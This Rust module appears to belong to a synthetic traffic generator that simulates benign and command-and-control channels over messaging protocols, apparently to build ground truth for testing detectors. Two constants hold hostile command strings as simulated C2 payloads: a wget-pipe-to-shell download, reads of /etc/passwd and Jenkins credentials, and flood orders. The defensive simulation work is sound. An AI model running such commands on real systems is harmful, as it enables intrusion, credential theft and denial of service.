//! From channels to connections: runs each channel's timing model over its active window and
//! produces the TCP connections it opens, each with the application bytes of both directions and
//! the instant every write is seen at the capture point (the site's edge, next to the clients).
//!
//! This is the one place where traffic is decided; the renderers only draw it. A persistent
//! channel holds sessions of about its session length and reconnects a few seconds after each
//! ends (messages that fall in the gap are lost, as with a real client offline); a per-beacon
//! channel opens one connection per upstream message. Keepalive traffic (MQTT PINGREQ, XMPP
//! XEP-0199 pings, AMQP heartbeats, STOMP heart-beat newlines) is inserted whenever the client
//! has been silent for the announced keepalive, which is how real clients behave, so benign and
//! C2 channels alike show control traffic at a fixed cadence.

use super::model::{AppProtocol, Cadence, Carrier, Channel, ConnectionMode, Flow, Os, Payload};
use super::model::{Label, Scenario};
use super::wire::{self, base64, base64_url, random_bytes, random_hex};
use crate::rng::SplitMix64;
use crate::time::{MICROS_PER_SEC, Micros};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// One write by one side, as seen at the capture point.
#[derive(Debug, Clone, PartialEq)]
pub struct Segment {
    pub t: Micros,
    pub from_client: bool,
    pub bytes: Vec<u8>,
}

/// One TCP connection of a channel: SYN at `start`, FIN from the client at `end`.
#[derive(Debug, Clone, PartialEq)]
pub struct Connection {
    /// Index of the channel in the scenario.
    pub channel: usize,
    pub src_port: u16,
    pub start: Micros,
    pub end: Micros,
    /// Application bytes in time order.
    pub segments: Vec<Segment>,
}

impl Connection {
    pub fn client_bytes(&self) -> u64 {
        self.bytes(true)
    }

    pub fn server_bytes(&self) -> u64 {
        self.bytes(false)
    }

    fn bytes(&self, from_client: bool) -> u64 {
        self.segments
            .iter()
            .filter(|s| s.from_client == from_client)
            .map(|s| s.bytes.len() as u64)
            .sum()
    }
}

fn secs(s: f64) -> Micros {
    (s * MICROS_PER_SEC as f64) as Micros
}

/// Instants of a cadence in `[from, until)`, the first one a random phase after `from`.
fn schedule(rng: &mut SplitMix64, cadence: Cadence, from: Micros, until: Micros) -> Vec<Micros> {
    let mut out = Vec::new();
    let gap = |rng: &mut SplitMix64| -> f64 {
        match cadence {
            Cadence::Periodic {
                period_secs,
                jitter,
            } => period_secs * (1.0 + jitter * (2.0 * rng.unit() - 1.0)),
            Cadence::Poisson { mean_secs } => rng.exponential(mean_secs),
        }
    };
    let first = match cadence {
        Cadence::Periodic { period_secs, .. } => rng.unit() * period_secs.min(600.0),
        Cadence::Poisson { .. } => gap(rng),
    };
    let mut t = from + secs(first);
    while t < until {
        out.push(t);
        t += secs(gap(rng).max(0.001));
    }
    out
}

/// Allocates ephemeral source ports per host (Windows from 49152, Linux and others from 32768).
struct Ports {
    next: HashMap<Ipv4Addr, u16>,
}

impl Ports {
    fn take(&mut self, rng: &mut SplitMix64, ip: Ipv4Addr, os: Os) -> u16 {
        let (lo, hi) = match os {
            Os::Windows => (49_152u16, 65_535u16),
            _ => (32_768u16, 60_999u16),
        };
        let slot = self
            .next
            .entry(ip)
            .or_insert_with(|| lo + rng.below(u64::from(hi - lo) / 2) as u16);
        let port = *slot;
        let step = 1 + rng.below(7) as u16;
        *slot = if u32::from(port) + u32::from(step) > u32::from(hi) {
            lo + step
        } else {
            port + step
        };
        port
    }
}

/// Simulates every channel of the scenario; connections come out ordered by start.
pub fn simulate(scenario: &Scenario) -> Vec<Connection> {
    let mut ports = Ports {
        next: HashMap::new(),
    };
    let mut port_rng = SplitMix64::for_stream(scenario.seed, 0x9047);
    let mut out = Vec::new();
    for (index, channel) in scenario.channels.iter().enumerate() {
        let mut rng = SplitMix64::for_stream(scenario.seed, 0x5e55_0000 + index as u64);
        let from = scenario.start + secs(channel.timing.active_from);
        let until = scenario.start + secs(channel.timing.active_until);
        let mut conns = match channel.timing.connection {
            ConnectionMode::PerBeacon => per_beacon(&mut rng, channel, from, until),
            ConnectionMode::Persistent { session_secs } => {
                persistent(&mut rng, channel, from, until, session_secs)
            }
        };
        for c in &mut conns {
            c.channel = index;
            c.src_port = ports.take(&mut port_rng, channel.host.ip, channel.host.os);
        }
        out.extend(conns);
    }
    out.sort_by_key(|c| (c.start, c.channel));
    out
}

fn per_beacon(rng: &mut SplitMix64, ch: &Channel, from: Micros, until: Micros) -> Vec<Connection> {
    let Some(up) = ch.timing.upstream else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (n, t) in schedule(rng, up.cadence, from, until)
        .into_iter()
        .enumerate()
    {
        let mut b = Builder::open(rng, ch, t, n == 0);
        let now = b.now;
        b.upstream(rng, now, up.payload, n as u64);
        let mut last = b.now + ch.rtt_micros;
        if rng.chance(ch.timing.task_chance)
            && let Some(down) = ch.timing.downstream
        {
            let at = b.now + ch.rtt_micros + secs(0.002);
            b.downstream(rng, at, down.payload, n as u64);
            // The agent runs the task and posts its output before it disconnects.
            let result_at = at + secs(0.3 + rng.unit() * 2.0);
            b.upstream(rng, result_at, down.payload, n as u64 + 1);
            last = result_at + ch.rtt_micros;
        }
        let end = last + secs(0.05 + rng.unit() * 0.3);
        out.push(b.close(rng, end));
    }
    out
}

fn persistent(
    rng: &mut SplitMix64,
    ch: &Channel,
    from: Micros,
    until: Micros,
    session_secs: f64,
) -> Vec<Connection> {
    let window = (until - from) as f64 / MICROS_PER_SEC as f64;
    // At least two sessions: a group of one connection is below every analytic's threshold,
    // and a real client does not stay connected through a whole day without a blip.
    let session_secs = session_secs.min(window / 2.2).max(1.0);
    let mut events: Vec<(Micros, bool, Payload)> = Vec::new();
    let mut add = |rng: &mut SplitMix64, flow: Option<Flow>, up: bool| {
        if let Some(f) = flow {
            for t in schedule(rng, f.cadence, from, until) {
                events.push((t, up, f.payload));
            }
        }
    };
    add(rng, ch.timing.upstream, true);
    add(rng, ch.timing.downstream, false);
    events.sort_by_key(|e| e.0);

    let mut out = Vec::new();
    let mut start = from + secs(rng.unit() * 5.0);
    let mut next_event = 0;
    let mut n = 0u64;
    while start < until - secs(10.0) {
        let len = session_secs * (0.8 + 0.4 * rng.unit());
        let end = (start + secs(len)).min(until - secs(1.0));
        let mut b = Builder::open(rng, ch, start, out.is_empty());
        while let Some(&(t, up, payload)) = events.get(next_event) {
            if t >= end - secs(1.0) {
                break;
            }
            next_event += 1;
            if t < b.now {
                continue; // while the client was offline or still connecting
            }
            b.keepalive_until(rng, t);
            if up {
                b.upstream(rng, t, payload, n);
            } else {
                b.downstream(rng, t, payload, n);
            }
            n += 1;
        }
        b.keepalive_until(rng, end);
        out.push(b.close(rng, end));
        start = end + secs(2.0 + rng.unit() * 28.0);
    }
    out
}

/// Writes the application bytes of one connection, through its carrier.
struct Builder<'a> {
    ch: &'a Channel,
    start: Micros,
    /// When the client may next write (after the last exchange).
    now: Micros,
    /// Last time the client sent anything (the keepalive timer).
    last_client: Micros,
    encrypted: bool,
    segments: Vec<Segment>,
    publish_turn: usize,
    ping_id: u64,
}

impl<'a> Builder<'a> {
    /// Opens a connection whose SYN is at `start`: carrier preface and protocol handshake.
    /// `first` is the channel's first connection: later ones resume the TLS session and so
    /// carry no certificate chain.
    fn open(rng: &mut SplitMix64, ch: &'a Channel, start: Micros, first: bool) -> Builder<'a> {
        let rtt = ch.rtt_micros;
        let mut b = Builder {
            ch,
            start,
            now: start + rtt + 200,
            last_client: start,
            encrypted: false,
            segments: Vec::new(),
            publish_turn: 0,
            ping_id: 0,
        };
        match &ch.carrier {
            Carrier::Cleartext => {}
            Carrier::Tls { alpn } => b.tls_handshake(rng, alpn, first),
            Carrier::WebSocket { path } => {
                let req = wire::websocket_upgrade(rng, &ch.dns_name, path);
                b.raw(true, req);
                let acc = wire::websocket_accept(rng);
                b.raw(false, acc);
            }
            Carrier::StartTls => {
                let domain = jid_domain(&ch.client_id, &ch.dns_name);
                b.raw(true, wire::xmpp_client_stream(&domain));
                b.raw(false, wire::xmpp_server_stream(rng, &domain, "tls"));
                b.raw(true, wire::XMPP_STARTTLS.to_vec());
                b.raw(false, wire::XMPP_PROCEED.to_vec());
                b.tls_handshake(rng, &[], first);
            }
        }
        b.protocol_open(rng);
        b
    }

    fn tls_handshake(&mut self, rng: &mut SplitMix64, alpn: &[&str], full: bool) {
        let hello = wire::tls_client_hello(rng, tls_server_name(self.ch), alpn);
        self.raw(true, hello);
        let cert = if full {
            2400 + rng.below(1600) as usize
        } else {
            100 + rng.below(80) as usize
        };
        let hs = wire::tls_server_handshake(rng, cert);
        self.raw(false, hs);
        let fin = wire::tls_client_finished(rng);
        self.raw(true, fin);
        self.encrypted = true;
    }

    /// A write at `self.now` that the other side answers one round trip later (a server write
    /// is seen one round trip after the client's request that caused it).
    fn raw(&mut self, from_client: bool, bytes: Vec<u8>) {
        let t = if from_client {
            self.now
        } else {
            self.now + self.ch.rtt_micros
        };
        self.push(t, from_client, bytes);
        self.now = t + 150;
    }

    fn push(&mut self, t: Micros, from_client: bool, bytes: Vec<u8>) {
        if from_client {
            self.last_client = self.last_client.max(t);
        }
        self.segments.push(Segment {
            t,
            from_client,
            bytes,
        });
    }

    /// Application bytes through the carrier (TLS hides them, WebSocket frames them).
    fn app(&mut self, rng: &mut SplitMix64, t: Micros, from_client: bool, bytes: Vec<u8>) {
        let bytes = if self.encrypted {
            wire::tls_application_data(rng, bytes.len())
        } else if matches!(self.ch.carrier, Carrier::WebSocket { .. }) {
            wire::websocket_frame(rng, from_client, &bytes)
        } else {
            bytes
        };
        self.push(t, from_client, bytes);
        self.now = self.now.max(t + 150);
    }

    /// A client request at `self.now` and the server's answer a round trip later.
    fn exchange(&mut self, rng: &mut SplitMix64, request: Vec<u8>, answer: Vec<u8>) {
        let t = self.now;
        self.app(rng, t, true, request);
        if !answer.is_empty() {
            self.app(rng, t + self.ch.rtt_micros, false, answer);
        }
        self.now = t + self.ch.rtt_micros + 300;
    }

    fn protocol_open(&mut self, rng: &mut SplitMix64) {
        let ch = self.ch;
        let keepalive = ch.timing.keepalive_secs.min(u32::from(u16::MAX)) as u16;
        match ch.protocol {
            AppProtocol::Mqtt(v) => {
                let connect = wire::mqtt_connect(
                    v,
                    &ch.client_id,
                    ch.username.as_deref(),
                    ch.username.as_ref().map(|_| "********"),
                    keepalive,
                );
                self.exchange(rng, connect, wire::mqtt_connack(v));
                if !ch.subscribe.is_empty() {
                    let sub = wire::mqtt_subscribe(v, 1, &ch.subscribe);
                    self.exchange(rng, sub, wire::mqtt_suback(v, 1, ch.subscribe.len()));
                }
            }
            AppProtocol::Xmpp => {
                let domain = jid_domain(&ch.client_id, &ch.dns_name);
                let local = ch.client_id.split('@').next().unwrap_or("user").to_string();
                // Direct TLS and STARTTLS alike: the stream (re)starts and offers SASL.
                let features = wire::xmpp_server_stream(rng, &domain, "sasl");
                self.exchange(rng, wire::xmpp_client_stream(&domain), features);
                let auth = wire::xmpp_auth_plain(&local, "hunter2");
                self.exchange(rng, auth, wire::XMPP_SUCCESS.to_vec());
                let features = wire::xmpp_server_stream(rng, &domain, "bind");
                self.exchange(rng, wire::xmpp_client_stream(&domain), features);
                let resource = random_hex(rng, 8);
                let jid = format!("{}/{resource}", ch.client_id);
                self.exchange(
                    rng,
                    wire::xmpp_bind(&resource),
                    wire::xmpp_bind_result(&jid),
                );
            }
            AppProtocol::Amqp => {
                let user = ch.username.clone().unwrap_or_else(|| "guest".into());
                self.exchange(
                    rng,
                    wire::AMQP_HEADER.to_vec(),
                    wire::amqp_start("RabbitMQ"),
                );
                self.exchange(
                    rng,
                    wire::amqp_start_ok(&ch.client_id, &user, "********"),
                    wire::amqp_tune(false, keepalive),
                );
                let (open, open_ok) = wire::amqp_open("/");
                let mut req = wire::amqp_tune(true, keepalive);
                req.extend_from_slice(&open);
                self.exchange(rng, req, open_ok);
                let (chan, chan_ok) = wire::amqp_channel_open();
                self.exchange(rng, chan, chan_ok);
                if let Some(queue) = ch.subscribe.first() {
                    let (consume, ok) = wire::amqp_consume(queue, "ctag-1");
                    self.exchange(rng, consume, ok);
                }
            }
            AppProtocol::Stomp => {
                let hb = format!("{0},{0}", u64::from(keepalive) * 1000);
                let login = ch.username.clone().unwrap_or_default();
                let connect = wire::stomp_frame(
                    "CONNECT",
                    &[
                        ("accept-version", "1.2"),
                        ("host", &ch.dns_name),
                        ("login", &login),
                        ("passcode", "********"),
                        ("heart-beat", &hb),
                    ],
                    b"",
                );
                let connected = wire::stomp_frame(
                    "CONNECTED",
                    &[
                        ("version", "1.2"),
                        ("heart-beat", &hb),
                        ("server", "ActiveMQ/5.18.3"),
                    ],
                    b"",
                );
                self.exchange(rng, connect, connected);
                for (i, dest) in ch.subscribe.iter().enumerate() {
                    let id = i.to_string();
                    let sub = wire::stomp_frame(
                        "SUBSCRIBE",
                        &[("id", &id), ("destination", dest), ("ack", "auto")],
                        b"",
                    );
                    self.exchange(rng, sub, Vec::new());
                }
            }
            AppProtocol::Kafka | AppProtocol::Opaque => {}
        }
    }

    fn next_publish_topic(&mut self) -> String {
        let topics = &self.ch.publish;
        if topics.is_empty() {
            return "data".into();
        }
        let t = topics[self.publish_turn % topics.len()].clone();
        self.publish_turn += 1;
        t
    }

    /// A client → broker message at `t`.
    fn upstream(&mut self, rng: &mut SplitMix64, t: Micros, payload: Payload, n: u64) {
        let ch = self.ch;
        let body = payload_bytes(rng, ch, payload, true, n, t);
        let topic = self.next_publish_topic();
        let rtt = ch.rtt_micros;
        match ch.protocol {
            AppProtocol::Mqtt(v) => self.app(rng, t, true, wire::mqtt_publish(v, &topic, &body)),
            AppProtocol::Xmpp => self.app(rng, t, true, wire::xmpp_message("to", &topic, n, &body)),
            AppProtocol::Amqp => {
                let (exchange, key) = topic.split_once('/').unwrap_or(("", topic.as_str()));
                self.app(rng, t, true, wire::amqp_publish(exchange, key, &body));
            }
            AppProtocol::Stomp => {
                let frame = wire::stomp_frame(
                    "SEND",
                    &[("destination", &topic), ("content-type", "text/plain")],
                    &body,
                );
                self.app(rng, t, true, frame);
            }
            AppProtocol::Kafka => {
                let corr = n as i32 & i32::MAX;
                let req = wire::kafka_produce(corr, &ch.client_id, &topic, &body);
                self.app(rng, t, true, req);
                let resp = wire::kafka_produce_response(corr, &topic, n as i64);
                self.app(rng, t + rtt, false, resp);
            }
            AppProtocol::Opaque => {
                self.app(rng, t, true, body);
                // Push and HTTP protocols answer every client write.
                let answer = 20 + rng.below(60) as usize;
                let answer = random_bytes(rng, answer);
                self.app(rng, t + rtt, false, answer);
            }
        }
        self.now = self.now.max(t + 200);
    }

    /// A broker → client message at `t`.
    fn downstream(&mut self, rng: &mut SplitMix64, t: Micros, payload: Payload, n: u64) {
        let ch = self.ch;
        let body = payload_bytes(rng, ch, payload, false, n, t);
        match ch.protocol {
            AppProtocol::Mqtt(v) => {
                let topic = delivery_topic(rng, ch, payload);
                self.app(rng, t, false, wire::mqtt_publish(v, &topic, &body));
            }
            AppProtocol::Xmpp => {
                let peer = ch
                    .publish
                    .first()
                    .map_or("peer@example.org", String::as_str);
                let stanza = wire::xmpp_message("from", peer, n, &body);
                self.app(rng, t, false, stanza);
            }
            AppProtocol::Amqp => {
                let queue = ch.subscribe.first().map_or("q", String::as_str);
                let msg = wire::amqp_deliver("ctag-1", n + 1, "", queue, &body);
                self.app(rng, t, false, msg);
            }
            AppProtocol::Stomp => {
                let dest = ch.subscribe.first().map_or("/queue/in", String::as_str);
                let id = format!("ID:broker-{n}");
                let frame = wire::stomp_frame(
                    "MESSAGE",
                    &[
                        ("destination", dest),
                        ("message-id", &id),
                        ("subscription", "0"),
                    ],
                    &body,
                );
                self.app(rng, t, false, frame);
            }
            AppProtocol::Kafka => {}
            AppProtocol::Opaque => self.app(rng, t, false, body),
        }
        self.now = self.now.max(t + 200);
    }

    /// Keepalive traffic for every span of client silence longer than the keepalive, up to `t`.
    fn keepalive_until(&mut self, rng: &mut SplitMix64, t: Micros) {
        let ka = self.ch.timing.keepalive_secs;
        if ka == 0 || matches!(self.ch.protocol, AppProtocol::Opaque | AppProtocol::Kafka) {
            return;
        }
        let period = secs(f64::from(ka));
        let rtt = self.ch.rtt_micros;
        loop {
            // Clients send the ping a little before the deadline (timer granularity).
            let due = self.last_client + period - secs(rng.unit() * 0.05);
            if due >= t {
                break;
            }
            let (req, resp) = match self.ch.protocol {
                AppProtocol::Mqtt(_) => (wire::MQTT_PINGREQ.to_vec(), wire::MQTT_PINGRESP.to_vec()),
                AppProtocol::Xmpp => {
                    self.ping_id += 1;
                    let domain = jid_domain(&self.ch.client_id, &self.ch.dns_name);
                    wire::xmpp_ping(&domain, self.ping_id)
                }
                AppProtocol::Amqp => (wire::AMQP_HEARTBEAT.to_vec(), wire::AMQP_HEARTBEAT.to_vec()),
                AppProtocol::Stomp => (b"\n".to_vec(), b"\n".to_vec()),
                AppProtocol::Kafka | AppProtocol::Opaque => return,
            };
            self.app(rng, due, true, req);
            self.app(rng, due + rtt, false, resp);
            self.now = self.now.max(due + rtt + 100);
        }
    }

    /// Protocol goodbye at `end`, then the client's FIN (at `end`, for the renderers).
    fn close(mut self, rng: &mut SplitMix64, end: Micros) -> Connection {
        let ch = self.ch;
        let at = end.max(self.now + 100);
        let goodbye: Option<(Vec<u8>, Vec<u8>)> = match ch.protocol {
            AppProtocol::Mqtt(v) => Some((wire::mqtt_disconnect(v), Vec::new())),
            AppProtocol::Xmpp => Some((wire::XMPP_CLOSE.to_vec(), wire::XMPP_CLOSE.to_vec())),
            AppProtocol::Amqp => Some(wire::amqp_close()),
            AppProtocol::Stomp => Some((
                wire::stomp_frame("DISCONNECT", &[("receipt", "77")], b""),
                wire::stomp_frame("RECEIPT", &[("receipt-id", "77")], b""),
            )),
            AppProtocol::Kafka | AppProtocol::Opaque => None,
        };
        let mut fin = at;
        if let Some((bye, answer)) = goodbye {
            self.app(rng, at, true, bye);
            if !answer.is_empty() {
                self.app(rng, at + ch.rtt_micros, false, answer);
                fin = at + ch.rtt_micros + 200;
            } else {
                fin = at + 200;
            }
        }
        let mut segments = self.segments;
        segments.sort_by_key(|s| s.t);
        let last = segments.last().map_or(fin, |s| s.t);
        Connection {
            channel: 0,
            src_port: 0,
            start: self.start,
            end: fin.max(last + 100),
            segments,
        }
    }
}

/// The SNI the client puts in its ClientHello: the server's DNS name, none when the client
/// dials a bare address.
pub fn tls_server_name(ch: &Channel) -> Option<&str> {
    ch.dns_name
        .parse::<Ipv4Addr>()
        .is_err()
        .then_some(ch.dns_name.as_str())
}

/// The XMPP domain: from the JID when there is one, else the server name.
fn jid_domain(jid: &str, dns_name: &str) -> String {
    jid.split_once('@')
        .map(|(_, d)| d.split('/').next().unwrap_or(d).to_string())
        .unwrap_or_else(|| dns_name.to_string())
}

/// A concrete topic for a message delivered to the client on one of its subscriptions.
fn delivery_topic(rng: &mut SplitMix64, ch: &Channel, payload: Payload) -> String {
    const PUBLIC: [&str; 8] = [
        "test/hello",
        "home/livingroom/temperature",
        "owntracks/alex/phone",
        "esp32/demo/led",
        "shellies/shellyplug-s-4022D8/relay/0/power",
        "tele/tasmota_7F1A2B/SENSOR",
        "weather/station1/json",
        "test/esp8266/counter",
    ];
    if payload == Payload::PublicChatter {
        let t = PUBLIC[rng.below(PUBLIC.len() as u64) as usize];
        let filter = ch.subscribe.first().map_or("#", String::as_str);
        return match filter.strip_suffix('#') {
            Some(prefix) if !t.starts_with(prefix) => format!("{prefix}{t}"),
            _ => t.to_string(),
        };
    }
    let filters: Vec<&String> = ch
        .subscribe
        .iter()
        .filter(|f| !f.starts_with('$'))
        .collect();
    let Some(filter) = filters.get(rng.below(filters.len().max(1) as u64) as usize) else {
        return ch.publish.first().cloned().unwrap_or_else(|| "data".into());
    };
    let concrete: Vec<String> = filter
        .split('/')
        .map(|level| match level {
            "+" => format!("dev{}", rng.below(8)),
            "#" => "state".to_string(),
            l => l.to_string(),
        })
        .collect();
    concrete.join("/")
}

const CHAT_LINES: [&str; 10] = [
    "are you joining the 2pm call?",
    "lol yes",
    "can you send me the Q1 numbers when you get a chance",
    "running 5 min late",
    "thanks!",
    "did the build pass?",
    "ok, merged",
    "lunch?",
    "I'll look at it tomorrow",
    "see https://wiki.corp.internal/display/FIN/Close+checklist",
];

const SHELL_COMMANDS: [&str; 6] = [
    "$whoami",
    "$uname -a",
    "$cat /etc/passwd",
    "!http://45.147.229.12/x.sh",
    "^/var/lib/jenkins/credentials.xml",
    "$ps aux",
];

const PLAIN_COMMANDS: [&str; 5] = [
    "shell:id",
    "shell:uname -a",
    "tcpsyn:203.0.113.7:80:60",
    "udpflood:198.51.100.23:53:30",
    "shell:wget -qO- http://193.29.13.88/a | sh",
];

/// The bytes of one message.
fn payload_bytes(
    rng: &mut SplitMix64,
    ch: &Channel,
    payload: Payload,
    from_client: bool,
    n: u64,
    t: Micros,
) -> Vec<u8> {
    let epoch = t / MICROS_PER_SEC;
    let temp = 18.0 + rng.unit() * 6.0;
    let text = match payload {
        Payload::SensorJson => format!(
            "{{\"device\":\"{}\",\"temperature\":{temp:.1},\"humidity\":{:.1},\"battery\":{},\"ts\":{epoch}}}",
            ch.client_id,
            35.0 + rng.unit() * 20.0,
            60 + rng.below(40)
        ),
        Payload::ShadowJson => format!(
            "{{\"state\":{{\"reported\":{{\"temperature\":{temp:.2},\"setpoint\":21.0,\"mode\":\"heat\",\"rssi\":-{}}}}},\"clientToken\":\"{}\"}}",
            50 + rng.below(30),
            random_hex(rng, 8)
        ),
        Payload::TasmotaState => format!(
            "{{\"Time\":\"{epoch}\",\"Uptime\":\"0T{:02}:{:02}:00\",\"Heap\":25,\"SleepMode\":\"Dynamic\",\"Sleep\":50,\"LoadAvg\":19,\"MqttCount\":1,\"POWER\":\"ON\",\"Wifi\":{{\"AP\":1,\"SSId\":\"home-iot\",\"RSSI\":{},\"Signal\":-{},\"LinkCount\":1}}}}",
            n / 12 % 24,
            n * 5 % 60,
            60 + rng.below(30),
            55 + rng.below(20)
        ),
        Payload::ZigbeeState => format!(
            "{{\"battery\":{},\"humidity\":{:.1},\"linkquality\":{},\"temperature\":{temp:.1},\"voltage\":{}}}",
            80 + rng.below(20),
            35.0 + rng.unit() * 20.0,
            60 + rng.below(150),
            2900 + rng.below(200)
        ),
        Payload::HassCommand => format!(
            "{{\"state\":\"{}\",\"brightness\":{}}}",
            if rng.chance(0.5) { "ON" } else { "OFF" },
            rng.below(255)
        ),
        Payload::ChatText => CHAT_LINES[rng.below(CHAT_LINES.len() as u64) as usize].to_string(),
        Payload::OrderEvent => format!(
            "{{\"order_id\":\"ORD-{}\",\"customer\":\"C{}\",\"amount\":{:.2},\"currency\":\"EUR\",\"status\":\"{}\"}}",
            100_000 + n,
            rng.below(90_000),
            5.0 + rng.unit() * 400.0,
            if from_client { "created" } else { "paid" }
        ),
        Payload::CeleryHeartbeat => format!(
            "{{\"hostname\":\"{}\",\"utcoffset\":0,\"pid\":4121,\"clock\":{},\"freq\":2.0,\"active\":0,\"processed\":{},\"loadavg\":[0.12,0.1,0.05],\"sw_ident\":\"py-celery\",\"sw_ver\":\"5.3.6\",\"sw_sys\":\"Linux\",\"timestamp\":{epoch}.0,\"type\":\"worker-heartbeat\"}}",
            ch.client_id,
            2 * n + 1,
            n / 7
        ),
        Payload::ClickEvent => format!(
            "{{\"session\":\"{}\",\"page\":\"/products/{}\",\"ref\":\"/search\",\"ts\":{epoch}}}",
            random_hex(rng, 16),
            rng.below(5000)
        ),
        Payload::DevTest => {
            if rng.chance(0.5) {
                format!("hello {n}")
            } else {
                format!("{{\"test\":true,\"n\":{n},\"temp\":{temp:.1}}}")
            }
        }
        Payload::PublicChatter => format!("{{\"value\":{:.2},\"n\":{n}}}", rng.unit() * 100.0),
        Payload::MythicBase64 { min, max } => {
            let size = min + rng.below((max.saturating_sub(min) + 1) as u64) as usize;
            let mut raw = format!(
                "{}-{}-{}-{}-{}",
                random_hex(rng, 8),
                random_hex(rng, 4),
                random_hex(rng, 4),
                random_hex(rng, 4),
                random_hex(rng, 12)
            )
            .into_bytes();
            raw.extend_from_slice(&random_bytes(rng, size));
            base64(&raw)
        }
        Payload::MqsttangJson => format!(
            "{{\"c_topic\":\"{}\",\"Alive\":\"{}\",\"msg\":\"{}\",\"ret\":\"\"}}",
            ch.publish.first().map_or("iot/server1", String::as_str),
            n,
            {
                let size = 24 + rng.below(48) as usize;
                base64(&random_bytes(rng, size))
            }
        ),
        Payload::FernetSensor => {
            let mut token = vec![0x80];
            token.extend_from_slice(&(epoch as u64).to_be_bytes());
            let blocks = 2 + rng.below(3) as usize;
            token.extend_from_slice(&random_bytes(rng, 16 + 16 * blocks + 32));
            format!(
                "{{\"device_id\":\"{}\",\"temperature\":{temp:.1},\"humidity\":{:.1},\"battery\":{},\"status\":\"{}\",\"checksum\":\"{}\"}}",
                ch.client_id,
                35.0 + rng.unit() * 20.0,
                70 + rng.below(30),
                if from_client { "ok" } else { "calibrating" },
                base64_url(&token)
            )
        }
        Payload::PlainCommand => {
            PLAIN_COMMANDS[rng.below(PLAIN_COMMANDS.len() as u64) as usize].to_string()
        }
        Payload::ShellBot => {
            if from_client {
                format!(
                    "uid=115(jenkins) gid=120(jenkins) groups=120(jenkins) up {}m",
                    n * 15
                )
            } else {
                SHELL_COMMANDS[rng.below(SHELL_COMMANDS.len() as u64) as usize].to_string()
            }
        }
        Payload::BambooHeartbeat => format!(
            "{{\"guid\":\"{}\",\"status\":\"online\",\"host\":\"{}\",\"user\":\"{}\",\"os\":\"Windows 10 Enterprise 22H2\",\"av\":\"Windows Defender\",\"ts\":{epoch}}}",
            ch.client_id,
            ch.host.name,
            ch.user.rsplit('\\').next().unwrap_or(&ch.user)
        ),
        Payload::EncryptedBase64 { min, max } => {
            let size = min + rng.below((max.saturating_sub(min) + 1) as u64) as usize;
            base64(&random_bytes(rng, size))
        }
        Payload::Opaque { min, max } => {
            let size = min + rng.below((max.saturating_sub(min) + 1) as u64) as usize;
            return random_bytes(rng, size);
        }
    };
    text.into_bytes()
}

/// Number of connections per channel (for the ground truth).
pub fn connections_per_channel(scenario: &Scenario, conns: &[Connection]) -> Vec<usize> {
    let mut counts = vec![0; scenario.channels.len()];
    for c in conns {
        if let Some(slot) = counts.get_mut(c.channel) {
            *slot += 1;
        }
    }
    counts
}

/// Whether the channel is C2 (shorthand for the renderers' tests).
pub fn is_c2(ch: &Channel) -> bool {
    ch.label == Label::C2
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_channel_opens_at_least_two_connections() {
        let s = Scenario::generate(7, 24.0);
        let conns = simulate(&s);
        for (ch, n) in s.channels.iter().zip(connections_per_channel(&s, &conns)) {
            assert!(n >= 2, "{} has {n} connections", ch.id);
        }
    }

    #[test]
    fn segments_are_ordered_and_inside_the_connection() {
        let s = Scenario::generate(8, 24.0);
        for c in simulate(&s) {
            assert!(c.end > c.start);
            let mut last = c.start;
            for seg in &c.segments {
                assert!(seg.t >= last && seg.t > c.start && seg.t <= c.end);
                last = seg.t;
            }
            assert!(c.end <= s.end() + secs(60.0));
        }
    }

    #[test]
    fn keepalives_fill_idle_mqtt_sessions() {
        let s = Scenario::generate(9, 24.0);
        let conns = simulate(&s);
        let (idx, _) = s
            .channels
            .iter()
            .enumerate()
            .find(|(_, c)| c.id == "tasmota-plug-1")
            .expect("tasmota channel");
        let pings: usize = conns
            .iter()
            .filter(|c| c.channel == idx)
            .flat_map(|c| &c.segments)
            .filter(|seg| seg.from_client && seg.bytes == wire::MQTT_PINGREQ)
            .count();
        // TelePeriod 300 s with keepalive 30 s: about nine pings between reports.
        assert!(pings > 1000, "only {pings} PINGREQs");
    }

    #[test]
    fn jitter_stays_in_bounds() {
        let mut rng = SplitMix64::new(3);
        let cadence = Cadence::Periodic {
            period_secs: 100.0,
            jitter: 0.5,
        };
        let times = schedule(&mut rng, cadence, 0, secs(100_000.0));
        for w in times.windows(2) {
            let gap = (w[1] - w[0]) as f64 / 1e6;
            assert!((49.9..=150.1).contains(&gap), "gap {gap}");
        }
    }
}
